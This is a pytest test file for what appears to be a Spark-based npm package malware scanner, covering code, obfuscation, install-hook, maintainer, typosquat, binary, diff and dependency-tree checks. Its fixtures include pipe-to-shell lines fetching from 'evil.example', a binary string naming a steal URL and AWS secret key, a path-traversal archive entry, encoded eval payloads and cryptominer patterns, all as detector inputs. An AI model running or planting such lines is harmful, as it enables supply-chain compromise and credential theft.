"""Operators on small packages whose findings are known."""

import io
import random
import tarfile

import pytest
from pyspark.sql import functions as F

from siltstone.operators import binary, code, metadata, structure, versions
from siltstone.plans import cache, report, scan
from siltstone.sources import packages as sources


def files(spark, *rows):
    return spark.createDataFrame([("p", "1.0.0", a, b) for a, b in rows], "package string, version string, path string, content string")


def found(df):
    return {(r["severity"], r["category"], r["title"]) for r in df.collect()}


@pytest.mark.parametrize(
    ("line", "severity", "part"),
    [
        ("var x = eval(someVar);", "Critical", "eval()"),
        ("var fn = new Function('return 1');", "Critical", "Function constructor"),
        ("var cp = x[child_process].exec('ls');", "Critical", "child_process exec"),
        ('const cmd = "curl http://evil.example/s.sh | bash";', "Critical", "Pipe-to-shell"),
        ("const cp = require('child_process');", "High", "require("),
        ("const d = { a: process.env.SECRET, b: process.env.TOKEN };", "High", "Environment variable"),
    ],
)
def test_static(spark, line, severity, part):
    assert any(s == severity and part in t for s, _, t in found(code.static_code(files(spark, ("index.js", line)))))


def test_static_leaves_out(spark):
    quiet = [("a.js", "// eval(x)"), ("b.js", "/* eval(x) */"), ("dist/c.js", "eval(x);"), ("lib/v.min.js", "eval(x);"), ("s.css", "eval(x);"), ("README.md", "eval(x);"), ("utils/e.js", "process.env.A + process.env.B")]
    assert code.static_code(files(spark, *quiet)).count() == 0


def test_static_lines(spark):
    rows = code.static_code(files(spark, ("i.js", "ok\r\n/* a\neval(b)\n*/\n  eval(c)  \n"))).collect()
    assert [(r["line"], r["snippet"]) for r in rows] == [(5, "eval(c)")]


def test_line_findings(spark):
    rows = files(spark, ("i.js", "// eval(a)\neval(b);\n" + "z" * 501), ("d.json", "f" * 60), ("dist/x.js", "eval(x)"), ("README.md", "xmrig"), ("t.ts", "fs.readFile(p)\r\n/* a\n*/ eval(c)"))
    whole = code.line_findings(rows)
    apart = code.static_code(rows).unionByName(code.obfuscation(rows)).unionByName(code.rule_matches(rows))
    assert whole.columns == apart.columns
    assert sorted(map(repr, whole.collect())) == sorted(map(repr, apart.collect()))


def test_obfuscation(spark):
    rows = files(spark, ("i.js", 'var x = "' + "a" * 60 + '";'), ("j.js", "z" * 501), ("k.js", r"\x41\x42\x43\x44"), ("l.json", '"integrity": "' + "A" * 120 + '"'))
    titles = {t for _, _, t in found(code.obfuscation(rows))}
    assert titles == {"Long hex string detected", "Minified code in non-minified file", "Excessive string escaping", "Long base64 string detected"}


@pytest.mark.parametrize(
    ("pattern", "want"),
    [
        (r"eval\(", "eval("),
        (r"process\.env\b.*x", "process.env"),
        (r"abcd|efgh", None),
        (r"(?i)password", None),
        (r"(?:abcd)?wxyz+q", "wxyz"),
        (r"abc[de]+fghij?", "fghi"),
        (r"\\(abc)defg", "defg"),
        (r"x\\\.yz.*?last", "x\\.yz"),
        (r"ab{2,3}cdefg\d{3}", "cdefg"),
        (r"a(b(c(d)e)f)g", None),
        (r"^start$", "start"),
        (r"stratum\+tcp://", "stratum+tcp://"),
        ("", None),
    ],
)
def test_required_literal(spark, pattern, want):
    assert spark.range(1).select(code.required_literal(F.lit(pattern)).alias("x")).first()["x"] == want


def test_rule_joins_equal_a_loop(spark):
    import random
    import re

    rng = random.Random(2)
    texts = ["\n".join("".join(rng.choice(["eval(", "abcd", "x", " ", "fetch", "é", "("]) for _ in range(rng.randint(0, 12))) for _ in range(20)) for _ in range(10)]
    words = ["".join(rng.choice("abcdefx") for _ in range(8)) for _ in range(990)] + ["abcd", r"eval\(x?", r"fetch\s*x", "é{1,2}abcd", r"x|\(", r"abcd\(", "abcd", "abcdabcd", "abcdabcd", r"abcdabc", r"fetchabcd+", r"xéeval\(x?", "abcdabcdabcd", r"fetch\s*fetchx", "é{1,2}abcdeval"]
    rules = [(f"R{i}", "n", "Low", "Suspicious", w, None if i % 2 else r"\.js$", ["f3"] if i % 3 == 0 else None) for i, w in enumerate(words)] + [("null", "n", "Low", "Suspicious", None, None, None)]
    df = spark.createDataFrame(rules, "id string, name string, severity string, category string, pattern string, file_regex string, exclude_paths array<string>")
    fs = files(spark, *((f"f{i}.{'js' if i % 2 else 'md'}", t) for i, t in enumerate(texts)))
    found = code.rule_joins(fs, df)
    want = sorted((f"f{i}.{'js' if i % 2 else 'md'}", n, r[0]) for i, t in enumerate(texts) for n, line in enumerate(t.split("\n"), 1) for r in rules if r[4] and re.search(r[4], line) and (r[5] is None or i % 2) and not (r[6] and i == 3))
    assert sorted((r["file"], r["line"], r["title"][1:-3]) for r in found.collect()) == want and len(want) > 100
    plan = found._jdf.queryExecution().sparkPlan().toString()
    assert plan.count("NestedLoop") + plan.count("CartesianProduct") == 1  # of the rules without a literal only


def test_rules(spark):
    evil = 'var x = eval(Buffer.from("dGVzdA==", "base64").toString());'
    hits = code.rule_matches(files(spark, ("index.js", evil), ("bundle.min.js", evil), ("readme.md", evil), ("latest/x.js", "__proto__ = 1")))
    assert [(r["file"], r["title"]) for r in hits.collect()] == [("index.js", "[RULE-001] Eval with encoded payload")]


@pytest.mark.parametrize(
    ("body", "want"),
    [("curl http://evil.example/setup.sh | bash", {"Critical"}), ("husky install", set()), ("node-gyp rebuild", set()), ("", {"Medium"}), ("node install.js", {"Medium"}), ("node ./install.js", {"Medium"})],
)
def test_install(spark, body, want):
    s = spark.createDataFrame([("p", "1.0.0", "postinstall", body)], "package string, version string, hook string, body string")
    rows = metadata.install_scripts(s, files(spark, ("lib/install.js", ""))).collect()
    assert {r["severity"] for r in rows} == want
    assert any("missing" in r["title"] for r in rows) == (body == "node ./install.js")


def _people(*names):
    return [(n, f"{n}@{d}") if d else (n, None) for n, d in names]


def _versions(spark, *rows):
    return spark.createDataFrame(rows, "package string, version string, publish_ts string, maintainers array<struct<name: string, email: string>>")


def test_maintainers(spark):
    v = _versions(spark, ("p", "1.0.0", "2026-01-01T00:00:00Z", _people(("alice", "co.example"))), ("p", "1.0.1", "2026-03-30T00:00:00Z", _people(("eve", "evil.example"))), ("q", "1.0.0", "2026-01-01T00:00:00Z", _people(("al", "co.example"))), ("q", "1.0.1", "2026-02-01T00:00:00Z", _people(("al", "mail.example"), ("bob", None))))
    now = spark.createDataFrame([("p", "1.0.1", _people(("eve", "evil.example"))), ("q", "1.0.1", _people(("al", "mail.example"), ("bob", None)))], "package string, version string, maintainers array<struct<name: string, email: string>>")
    got = {(r["package"], r["severity"], r["title"]) for r in metadata.maintainers(now, v).collect()}
    assert got == {
        ("p", "Low", "Single maintainer (bus factor risk)"), ("p", "Critical", "Complete ownership transfer"), ("p", "High", "New maintainer added recently"), ("p", "Medium", "New maintainer added"),
        ("q", "High", "New maintainer added recently"), ("q", "Medium", "New maintainer added"), ("q", "Medium", "Maintainer email domain changed"), ("q", "High", "Maintainer with no email"),
    }


def test_names(spark):
    rows = spark.createDataFrame([(n, "1") for n in ("lodas", "1odash", "@types/react", "axois", "vuex", "react", "react-router", "preact")], "package string, version string")
    got = {r["package"]: (r["top"], r["technique"] is not None) for r in metadata.similar_names(rows).collect()}
    assert got == {"lodas": ("lodash", False), "1odash": ("lodash", True), "@types/react": ("react", True), "vuex": ("vue", False)}


def test_binary(spark):
    df = spark.createDataFrame([("p", "1", "a.node", bytes(4)), ("p", "1", "m.wasm", b"\0asm\1\0\0\0"), ("p", "1", "x.NODE", bytes(20) + b"/bin/sh" + bytes(20)), ("p", "1", "s.dll", b"\0AWS_SECRET_ACCESS_KEY\0"), ("p", "1", "e.so", b"\0https://evil.example/steal\0"), ("p", "1", "r.dylib", bytes(range(256)) * 8), ("p", "1", "t.txt", b"/bin/sh")], "package string, version string, path string, data binary")
    got = {(r["file"], r["severity"], r["title"].split(":")[0]) for r in binary.scan(df).collect()}
    assert {("a.node", "High", "Native binary file"), ("m.wasm", "Medium", "WebAssembly file"), ("x.NODE", "Critical", "Shell command in binary"), ("s.dll", "Critical", "Credential string in binary"), ("e.so", "Critical", "URL embedded in binary"), ("r.dylib", "High", "High-entropy binary")} <= got
    assert not any(f == "t.txt" for f, _, _ in got)
    assert [r["s"] for r in binary.strings(spark.createDataFrame([("p", "1", "f", b"hello\0world\0ab\0longer_string\0")], df.schema)).orderBy("pos").collect()] == ["hello", "world", "longer_string"]


def test_diff(spark):
    old = files(spark, ("index.js", "console.log('hello');"), ("package.json", '{"scripts": {"test": "t"}, "dependencies": {"a": "1"}}'))
    new = files(spark, ("index.js", "ok\neval(atob(x));"), ("payload.js", "1"), ("package.json", '{"scripts": {"test": "t", "postinstall": "node setup.js"}, "dependencies": {"a": "2", "evil-pkg": "^1"}}'))
    v = spark.createDataFrame([("p", "1.0.0", "1.0.1")], "package string, old_version string, new_version string")
    rows = versions.diff(old, new, v).collect()
    titles = {r["title"]: r for r in rows}
    assert {"New file added between versions", "New file with suspicious name", "New eval() usage added between versions", "New 'postinstall' script added between versions", "New dependency added between versions"} == set(titles)
    assert titles["New eval() usage added between versions"]["line"] == 2
    assert "evil-pkg" in titles["New dependency added between versions"]["description"]


def test_tree(spark):
    deps = spark.createDataFrame([(a, "1.0.0", b, "^1.0.0") for a, b in ("rb", "rc", "bd", "cd", "de", "ef", "br")], "package string, version string, dep string, spec string")
    vers = spark.createDataFrame([(x, "1.0.0", True, "old" if x == "d" else None, "2026-01-30" if x == "b" else "2020-01-01", 1) for x in "rbcdef"], "package string, version string, latest boolean, deprecated string, created_ts string, n_versions int")
    roots = spark.createDataFrame([("r", "^1.0.0")], "root string, spec string")
    tree = versions.tree(roots, deps, vers)
    assert {(r["name"], r["depth"]) for r in tree.collect()} == {("r", 0), ("b", 1), ("c", 1), ("d", 2), ("e", 3)}
    scripts = spark.createDataFrame([("c", "1.0.0", "postinstall"), ("e", "1.0.0", "test")], "package string, version string, hook string")
    risks = versions.dependency_risks(tree, vers, scripts, F.lit("2026-02-01").cast("timestamp"), most=3)
    assert {r["title"] for r in risks.collect()} == {"Transitive dependency has install scripts: c@1.0.0", "Transitive dependency is deprecated: d@1.0.0", "Transitive dependency is very new: b@1.0.0", "Dependency tree scan limit reached"}


@pytest.mark.parametrize("most", [1, 3, 7, 200])
def test_deep_risks_are_those_of_a_queue(spark, most):
    rng = random.Random(most)
    packages = [f"p{i}" for i in range(40)]
    vers = [(p, v, v == "1.0.0", "old" if (i + j) % 3 == 0 else None, "2026-01-30" if i % 4 == 0 else "2020-01-01", i % 3) for i, p in enumerate(packages) for j, v in enumerate(("0.9.0", "1.0.0"))]
    specs = ["^1.0.0", "0.9.0", "~3", None]
    deps = [(p, v, rng.choice([*packages, "unpublished"]), rng.choice(specs)) for p in packages for v in ("0.9.0", "1.0.0") for _ in range(rng.choice((0, 2, 5)))]
    deps += [("p1", "1.0.0", "p1", "^1.0.0"), ("p1", "1.0.0", "p2", None), *deps[:20]]  # a loop, a null and repeated rows
    hooks = [(p, "1.0.0", h) for p in packages[::5] for h in ("install", "postinstall", "test")]
    kids = {}
    for p, v, *dep in sorted(set(deps), key=lambda d: (d[0], d[1], d[2], d[3] or "")):
        kids.setdefault((p, v), []).append(tuple(dep))
    want = []
    for root in packages:
        queue, seen, n = [(root, "^1.0.0", 0)], set(), 0
        while queue:
            name, spec, depth = queue.pop(0)
            if n >= most:
                want.append((root, "Dependency tree scan limit reached", f"Only the first {n} packages were looked at"))
                break
            if (name, spec) in seen:
                continue
            seen.add((name, spec))
            n += depth > 0
            resolved = "0.9.0" if spec == "0.9.0" else "1.0.0"
            if depth < 3:
                queue += [(*k, depth + 1) for k in kids.get((name, resolved), [])]
            if depth > 0 and name != "unpublished":
                at = f"Package {n} of the tree, at depth {depth}"
                _, _, _, deprecated, created, versions_of = vers[2 * packages.index(name) + (resolved == "1.0.0")]
                want += [(root, f"Transitive dependency has install scripts: {name}@{resolved}", at)] * ((name, resolved, "install") in hooks)
                want += [(root, f"Transitive dependency is deprecated: {name}@{resolved}", f"{at}: old")] * (deprecated is not None)
                want += [(root, f"Transitive dependency is very new: {name}@{resolved}", f"{at}, first published {created}")] * (versions_of <= 1 and created > "2026")
        want += [(root, f"Large transitive dependency tree: {n} packages", "Each of them is code that runs with this package")] * (n > 100)
    got = versions.deep_risks(
        spark.createDataFrame([(p, "^1.0.0") for p in packages], "root string, spec string"),
        spark.createDataFrame(deps, "package string, version string, dep string, spec string"),
        spark.createDataFrame(vers, "package string, version string, latest boolean, deprecated string, created_ts string, n_versions int"),
        spark.createDataFrame(hooks, "package string, version string, hook string"),
        F.lit("2026-02-01").cast("timestamp"),
        most,
    )
    assert sorted((r["package"], r["title"], r["description"]) for r in got.collect()) == sorted(want) and len(want) > 40


def test_deep_risks_of_odd_roots(spark):
    # Roots that come twice, by several specifiers, by none, without a name, unpublished, or as dependencies of their own.
    deps = [("a", "1", "b", "1"), ("a", "2", "c", None), ("a", "2", "a", "1"), ("b", "1", "c", "1"), ("c", "1", "d", "9"), ("d", "1", "e", "1"), ("d", "1", None, "1"), (None, "1", "b", "1")]
    vers = [(x, v, v == "1", "old" if x in "acde" else None, "2020-01-01", 5) for x, v in ("a1", "a2", "b1", "c1", "d1", "e1")]
    roots = [("a", "1"), ("a", "2"), ("a", "1"), ("b", None), (None, "1"), ("gone", "1"), ("d", "1")]
    got = versions.deep_risks(
        spark.createDataFrame(roots, "root string, spec string"),
        spark.createDataFrame([*deps, *deps[:3]], "package string, version string, dep string, spec string"),
        spark.createDataFrame(vers, "package string, version string, latest boolean, deprecated string, created_ts string, n_versions int"),
        spark.createDataFrame([("b", "1", "install")], "package string, version string, hook string"),
        F.lit("2026-02-01").cast("timestamp"),
    )
    told = lambda root, *found: {(root, title, f"Package {rank} of the tree, at depth {depth}{more}") for title, rank, depth, more in found}
    old = lambda name, rank, depth: (f"Transitive dependency is deprecated: {name}@1", rank, depth, ": old")
    want = told("a", ("Transitive dependency has install scripts: b@1", 1, 1, ""), old("c", 2, 1), old("c", 3, 2), old("d", 4, 2), old("e", 6, 3)) | told("b", old("c", 1, 1), old("d", 2, 2), old("e", 4, 3)) | told("d", old("e", 2, 1))
    rows = [(r["package"], r["title"], r["description"]) for r in got.collect()]
    assert set(rows) == want and len(rows) == len(want)


def test_provenance_of_odd_rows(spark):
    # Packages that come twice, by two addresses, without one, or without a name; files and refs likewise.
    at = "https://github.com/own/"
    packages = [("a", "1", f"{at}a", True), ("a", "1", f"{at}a", True), ("b", "1", f"{at}b", False), ("b", "1", f"{at}c", False), ("c", "2", None, None), ("e", "1", f"{at}gone", False), (None, "1", f"{at}a", False), ("g", "1", "own/../g", False), ("h", "1", "", False)]
    files_ = [(p, "1", x) for p in ("a", "b", "c", "e", None) for x in ("i.js", "i.js", "dist/i.js", "src/new.ts", "README.md", None, "j.js")]
    tree = [("own/a", "v1", "i.js", "blob", False), ("own/a", "v1", "i.js", "blob", True), ("own/a", "v1", "src/new.ts", "tree", False), ("own/b", "1", "j.js", "blob", None), ("own/c", "HEAD", "i.js", "blob", False), ("own/c", "HEAD", None, "blob", False), (None, "v1", "i.js", "blob", False)]
    found = metadata.provenance(spark.createDataFrame(packages, "package string, version string, repository string, attested boolean"), spark.createDataFrame(files_, "package string, version string, path string"), spark.createDataFrame(tree, "repo string, ref string, path string, type string, truncated boolean"))
    got = sorted(repr((r["package"], r["severity"], r["title"][:12], r["file"], r["description"][:21])) for r in found.collect())
    low, high, cut = ("Low", "No npm prove", None, "source of the package"), ("High", "No provenanc", None, "source of the package"), ("Info", "GitHub tree ", None, "source of the package")
    want = [("a", "Info", "npm provenan", None, "source of the package")] * 2 + [("b", *low)] * 2 + [(p, *low) for p in ("c", "e", None, "g", "h")] + [("g", *high), ("h", *high), ("a", *cut), (None, *cut)]
    want += [("a", "Critical", "2 JS file(s)", "j.js", "  - j.js\n  - src/new."), ("b", "Critical", "3 JS file(s)", "i.js", "  - i.js\n  - j.js\n  -"), ("e", "Medium", "Repository U", None, "source of the package")]
    assert got == sorted(map(repr, want))


def test_archives(spark):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in [("package/index.js", b"x"), ("package/../../evil.js", b"y"), ("package/node_modules/a.js", b"z"), ("package/bad.ts", b"\xff\xfe"), ("package/a.wasm", b"\0asm")]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    df = spark.createDataFrame([("p", "1", buffer.getvalue())], "package string, version string, archive binary")
    entries = sources.rooted(sources.safe(sources.unpack(df)))
    assert [(r["path"], r["content"]) for r in sources.script_files(entries).collect()] == [("index.js", "x")]
    assert [r["path"] for r in sources.binary_files(entries).collect()] == ["a.wasm"]
    assert {r["path"]: r["content"] for r in sources.all_files(entries).collect()}["bad.ts"] == ""
    broken = spark.createDataFrame([("p", "1", buffer.getvalue()), ("q", "1", b"no archive"), ("r", "1", buffer.getvalue()[:-40]), ("s", "1", None)], "package string, version string, archive binary")
    rows = sources.unpack(broken).collect()
    assert {r["package"] for r in rows if r["error"]} >= {"q", "s"} and len([r for r in rows if r["package"] == "p" and not r["error"]]) == 5
    assert {r["package"] for r in sources.safe(sources.unpack(broken)).collect()} <= {"p", "r"}


def test_documents(spark):
    doc = '{"name": "p", "versions": {"1.0.0": {"version": "1.0.0"}, "1.2.3": {"version": "1.2.3", "scripts": {"postinstall": "x"}, "dependencies": {"lodash": "^4"}, "maintainers": [{"name": "a"}]}}, "dist-tags": {"latest": "1.2.3"}, "time": {"created": "2026-01-01T00:00:00Z", "1.2.3": "t"}, "maintainers": [{"name": "a", "email": "a@b"}], "odd": 1}'
    docs = sources.parsed(spark.createDataFrame([(doc,), ("{}",)], "json string"))
    row = sources.latest(docs.where("name = 'p'")).first()
    assert (row["version"], row["has_install_scripts"], row["has_repository"], row["n_versions"], row["first_email"]) == ("1.2.3", True, False, 2, "a@b")
    v = sources.versions(docs)
    assert {(r["version"], r["latest"], r["publish_ts"]) for r in v.collect()} == {("1.0.0", False, None), ("1.2.3", True, "t")}
    assert [(r["dep"], r["spec"]) for r in sources.dependencies(v).collect()] == [("lodash", "^4")]
    want = spark.createDataFrame([("p", "1.0.0")], "name string, version string")
    one = sources.latest(sources.as_single_version(docs, want)).first()
    assert (one["version"], one["created_ts"], one["first_email"], one["n_versions"]) == ("1.0.0", None, None, 1)


def test_manifests(spark):
    df = spark.createDataFrame([("a", None), ("b", '{"dependencies": {"x": "1", "y": null}, "devDependencies": {"x": "2"}}'), ("c", "{bad")], "project string, package_json string")
    m = sources.manifests(df)
    assert {r["project"]: r["broken"] for r in m.collect()} == {"a": False, "b": False, "c": True}
    assert {tuple(r) for r in sources.project_dependencies(m).collect()} == {("b", "x", "1", "prod"), ("b", "y", "latest", "prod"), ("b", "x", "2", "dev")}
    assert sources.project_dependencies(m, skip_dev=True).count() == 2


def test_manifests_are_parsed_once(spark):
    # Each kind's filter and its explode parsed a manifest, three times a kind, before.
    texts = {
        "empty": "", "null": "null", "number": "5", "list": '[{"dependencies": {"a": "1"}}, {"devDependencies": {"b": "1"}}]', "none": '{"dependencies": null, "devDependencies": {}}', "dev": '{"dependencies": {}, "devDependencies": {"b": "1"}}',
        "scripts": '{"scripts": 5, "dependencies": {"a": "1"}}', "array": '{"dependencies": ["a"], "devDependencies": {"b": "1"}}', "values": '{"dependencies": {"a": {"version": "1"}, "b": [1], "c": 2, "": ""}}', "twice": '{"dependencies": {"a": "1", "a": "2"}, "devDependencies": {"a": "1"}}',
        "broken": '{"dependencies": {"a": "1"}, broken', "null spec": '{"devDependencies": {"b": null}, "dependencies": {"a": null}}',
    }
    m = sources.manifests(spark.createDataFrame([*texts.items(), ("dev", texts["scripts"]), (None, texts["dev"])], "project string, package_json string"))
    prod = [("scripts", "a", "1"), ("dev", "a", "1"), ("values", "a", '{"version":"1"}'), ("values", "b", "[1]"), ("values", "c", "2"), ("values", "", ""), ("twice", "a", "1"), ("twice", "a", "2"), ("null spec", "a", "latest")]
    dev = [("dev", "b", "1"), (None, "b", "1"), ("array", "b", "1"), ("twice", "a", "1"), ("null spec", "b", "latest")]
    for skipped, want in ((True, [(*x, "prod") for x in prod]), (False, [(*x, "prod") for x in prod] + [(*x, "dev") for x in dev])):
        found = sources.project_dependencies(m, skip_dev=skipped)
        assert sorted(map(repr, map(tuple, found.collect()))) == sorted(map(repr, want))
        assert found._jdf.queryExecution().executedPlan().toString().count("from_json(") == 1


def test_rule_and_ignore_files(spark, tmp_path):
    (tmp_path / "a.yml").write_text('id: "X-1"\nname: n\ndescription: d\nseverity: odd\ncategory: Network-Access\npattern: "MAGIC"\nfile_pattern: "*.js"\n')
    rules = sources.rule_files(str(tmp_path))
    rows = code.rule_matches(files(spark, ("i.js", "MAGIC"), ("i.ts", "MAGIC")), rules).collect()
    assert [(r["severity"], r["category"], r["title"]) for r in rows] == [("Info", "NetworkAccess", "[X-1] n")]
    (tmp_path / "ignore").write_text("# c\n\n  low \nCode Exec\n")
    assert {r["rule"] for r in sources.ignore_rules(spark, [str(tmp_path / "ignore")]).collect()} == {"low", "Code Exec"}


def test_scan(spark, tmp_path):
    f = files(spark, ("index.js", "eval(x);\nrequire('child_process')"), ("ok.js", "1"))
    clean = spark.createDataFrame([("p", "1.0.0"), ("q", "1.0.0")], "package string, version string")
    tables = scan.Tables(packages=clean, files=f)
    scored = scan.scan(tables)
    assert {r["package"]: (r["risk_score"], r["risk_label"]) for r in scored.collect()} == {"p": (7.5, "Critical"), "q": (0.0, "Clean")}
    rules = spark.createDataFrame([("code execution",), ("medium",)], "rule string")
    assert {r["package"]: r["risk_score"] for r in scan.scan(tables, ignore=rules).collect()} == {"p": 1.5, "q": 0.0}
    now = F.lit("2026-01-02 00:00:00").cast("timestamp")
    path = str(tmp_path / "cache")
    assert cache.load(spark, path) is None
    cache.save(scored, path, F.lit("2026-01-01 00:00:00").cast("timestamp"))
    cached = report.fresh(cache.load(spark, path), now)
    assert report.pending(clean, cached).count() == 0
    assert report.fresh(cache.load(spark, path), now, 3600).count() == 0
    assert {r["package"]: r["risk_label"] for r in scan.scan(tables, cached=cached).collect()} == {"p": "Critical", "q": "Clean"}
    assert {r["package"]: r["approved"] for r in report.gate(scored).collect()} == {"p": False, "q": True}
    assert report.exit_code(scored).first()["code"] == 1
    cache.prune(spark, path, now)
    assert cache.load(spark, path).count() == 2
    cache.prune(spark, path, now, 3600)
    assert cache.load(spark, path).count() == 0
    assert cache.clear(spark, path) and not (tmp_path / "cache").exists() and not cache.clear(spark, path)


def test_cache_survives_what_stops_it(spark, tmp_path, monkeypatch):
    path, now = str(tmp_path / "cache"), F.lit("2026-01-02 00:00:00").cast("timestamp")
    one = lambda name: spark.createDataFrame([(name, "1", 1.0)], "package string, version string, risk_score double")
    names_ = lambda: sorted(r["package"] for r in cache.load(spark, path).collect())
    cache.save(one("a"), path, now)

    def stop(*_):
        raise RuntimeError("stopped")

    for step in ("commit", "_renamed"):  # data is written, and then the entry is too but isn't in place
        with monkeypatch.context() as m:
            m.setattr(cache.Log, step, stop)
            for work in (lambda: cache.save(one("lost"), path, now), lambda: cache.prune(spark, path, now)):
                with pytest.raises(RuntimeError, match="stopped"):
                    work()
        assert names_() == ["a"]
    with monkeypatch.context() as m:  # the entry is in place, but nothing is removed
        m.setattr(cache, "swept", stop)
        with pytest.raises(RuntimeError, match="stopped"):
            cache.prune(spark, path, now)
    assert names_() == ["a"]
    # Another writer is first, in the midst of a prune: its reports stay.
    commit = cache.Log.commit

    def late(log, change):
        monkeypatch.setattr(cache.Log, "commit", commit)
        cache.save(one("b"), path, now)
        return commit(log, change)

    monkeypatch.setattr(cache.Log, "commit", late)
    cache.prune(spark, path, now)
    assert names_() == ["a", "b"]
    # Two writers try the same entry: a rename doesn't replace it.
    entries = cache.Log.entries
    stale = [entries(cache.Log(spark, path))[:-1]]
    monkeypatch.setattr(cache.Log, "entries", lambda log: stale.pop() if stale else entries(log))
    cache.save(one("c"), path, now)
    assert names_() == ["a", "b", "c"] and not stale
    for _ in range(3):
        cache.prune(spark, path, now)
    assert names_() == ["a", "b", "c"]
    folders = lambda: set(cache.Log(spark, path).names("data"))
    assert len(entries(cache.Log(spark, path))) == cache.KEPT_ENTRIES and len(folders()) > cache.KEPT_ENTRIES  # young strays stay
    cache.swept(cache.Log(spark, path), age=0)
    assert len(folders()) == cache.KEPT_ENTRIES and names_() == ["a", "b", "c"]


def test_sarif_of_many_reports(spark, tmp_path):
    import json

    fs = spark.createDataFrame([(f"p{i % 7}", "1.0.0", f"f{i}.js", "eval(x);\nfetch(u);\nfs.writeFileSync(a, b)") for i in range(40)], "package string, version string, path string, content string")
    for found in (code.static_code(fs), code.static_code(fs.limit(0))):
        path = tmp_path / f"run{found.count()}"
        report.write_sarif(report.sarif_run(found), str(path))
        document = json.loads("".join(p.read_text() for p in sorted(path.glob("part-*"))))
        results = document["runs"][0]["results"]
        want = [(r["package"], r["file"], r["line"]) for r in report.ordered(found).orderBy("package", "version", "pos").collect()]
        assert [(x["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], x["locations"][0]["physicalLocation"]["region"]["startLine"]) for x in results] == [w[1:] for w in want]
        rules = document["runs"][0]["tool"]["driver"]["rules"]
        assert [r["id"] for r in rules] == sorted(r["id"] for r in rules) and all(r["shortDescription"]["text"] for r in rules) and bool(rules) == bool(want)
    assert {r["id"]: r["defaultConfiguration"]["level"] for r in rules} == {}


def test_check_with_options(spark):
    old, new = files(spark, ("index.js", "ok")), files(spark, ("index.js", "fetch(u);"), ("payload.js", "1"))
    pairs = spark.createDataFrame([("p", "0.9.0", "1.0.0")], "package string, old_version string, new_version string")
    deps = spark.createDataFrame([("p", "1.0.0", "d", "^2.0.0")], "package string, version string, dep string, spec string")
    known = spark.createDataFrame([("p", "1.0.0", True, None, "2020-01-01", 5), ("d", "2.0.0", True, "old", "2020-01-01", 5)], "package string, version string, latest boolean, deprecated string, created_ts string, n_versions int")
    hooks = spark.createDataFrame([("d", "2.0.0", "postinstall")], "package string, version string, hook string")
    tables = scan.Tables(packages=new.select("package", "version").distinct(), files=new, old_files=old.select("package", "path", "content"), pairs=pairs, dependencies=deps, published=known, hooks=hooks)
    of = lambda **k: scan.check(tables, **k).first()["risk_score"]
    # Read of the network 0.1; a new file 0.1, of a suspicious name 1.5, a new call 1.5; a hook 1.5 and a deprecated package 0.5.
    assert of() == 0.1 and of(compare=True, deep=True) == pytest.approx(5.2)


def test_outputs(spark):
    import json

    f = files(spark, ("index.js", "eval(x);"))
    found_ = code.static_code(f).unionByName(structure.syntax(f))
    r = report.reports(f.select("package", "version"), found_)
    doc = json.loads(report.as_json(r).first()["json"])
    assert doc["findings"][0]["severity"] == "Critical" and doc["findings"][0]["line"] == 1 and doc["risk_score"] == 6.0
    many = report.reports(f.select("package", "version").union(spark.createDataFrame([("q", "2.0.0")], "package string, version string")), found_)
    documents = {r["package"]: json.loads(r["sarif"]) for r in report.as_sarif(many).collect()}
    assert documents["q"]["runs"][0]["results"] == [] and documents["q"]["$schema"].endswith("sarif-2.1.0.json")
    sarif = documents["p"]
    assert [x["id"] for x in sarif["runs"][0]["tool"]["driver"]["rules"]] == ["siltstone/code-execution"]
    assert "eval(" in sarif["runs"][0]["results"][0]["message"]["text"]
    assert sarif["version"] == "2.1.0" and sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] == 1
    assert report.terminal(r).first()["text"].startswith("p@1.0.0 HIGH\n  [CRITICAL] Code Execution: ")
    assert report.summary(r).first()["line"] == "Dynamic eval() detected, Dynamic eval() detected (AST-verified)"
